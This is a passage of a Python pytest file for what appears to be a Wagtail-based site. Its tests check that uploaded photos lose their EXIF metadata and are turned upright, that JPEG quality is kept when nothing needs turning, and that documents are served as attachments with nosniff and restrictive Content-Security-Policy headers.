        assert post_add(admin_client, "images", root_collection, "chata.jpg", photo) == ""
    elif route == "multiple":
        assert post_multiple(manager_client, "images", root_collection, "chata.jpg", photo) == ""
    elif route == "replace":
        replace_file(admin_client, root_collection, "chata.jpg", photo)
    else:
        assert post_chooser(manager_client, "images", root_collection, "chata.jpg", photo) == ""
    image = Image.objects.get()
    stored = image.file.read()
    assert_clean_and_upright(stored)
    assert_stored_consistently(image, stored)

    rendition = image.get_rendition("width-20")
    rendition.file.open()
    assert_clean_and_upright(rendition.file.read(), size=(20, 40))


@pytest.mark.parametrize("pillow_format", ["PNG", "WEBP"])
def test_png_and_webp_photos_lose_their_metadata_too(
    pillow_format, admin_client, root_collection, no_leftovers
):
    name = f"chata.{pillow_format.lower()}"
    assert post_add(admin_client, "images", root_collection, name, phone_photo(pillow_format)) == ""
    image = Image.objects.get()
    stored = image.file.read()
    assert_clean_and_upright(stored)
    assert_stored_consistently(image, stored)
    with PILImage.open(io.BytesIO(stored)) as reopened:
        assert reopened.format == pillow_format


def test_a_photo_uploaded_as_a_document_loses_its_metadata(
    admin_client, root_collection, no_leftovers
):
    assert (
        post_add(admin_client, "documents", root_collection, "chata.jpg", phone_photo("JPEG")) == ""
    )
    document = Document.objects.get()
    stored = document.file.read()
    assert_clean_and_upright(stored)
    assert_stored_consistently(document, stored)


def test_a_photo_without_an_orientation_keeps_its_jpeg_quality(
    admin_client, root_collection, no_leftovers
):
    """Nothing to turn: the JPEG is rewritten with its own quantisation tables (no second
    lossy compression), only the metadata segments are gone."""
    photo = camera_jpeg()
    assert post_add(admin_client, "images", root_collection, "foto.jpg", photo) == ""
    stored = Image.objects.get().file.read()
    with PILImage.open(io.BytesIO(stored)) as image, PILImage.open(io.BytesIO(photo)) as sent:
        assert not image.getexif() and "Fotoaparát".encode() not in stored
        assert image.quantization == sent.quantization
        assert image.size == sent.size


# --- Serving -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [("zapis.pdf", PDF, "application/pdf"), ("poznamky.txt", b"Dobry den\n", "text/plain")],
    ids=["pdf", "txt"],
)
def test_document_is_served_as_an_attachment(
    name, content, content_type, admin_client, root_collection, no_leftovers
):
    assert post_add(admin_client, "documents", root_collection, name, content) == ""
    document = Document.objects.get()
    assert document.url == f"/dokumenty/{document.pk}/{document.filename}"

    response = Client().get(document.url)
    assert response.status_code == 200
    assert response["Content-Type"].startswith(content_type)
    assert response["Content-Disposition"].startswith(f'attachment; filename="{document.filename}"')
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == "default-src 'none'"
    assert b"".join(response.streaming_content) == content
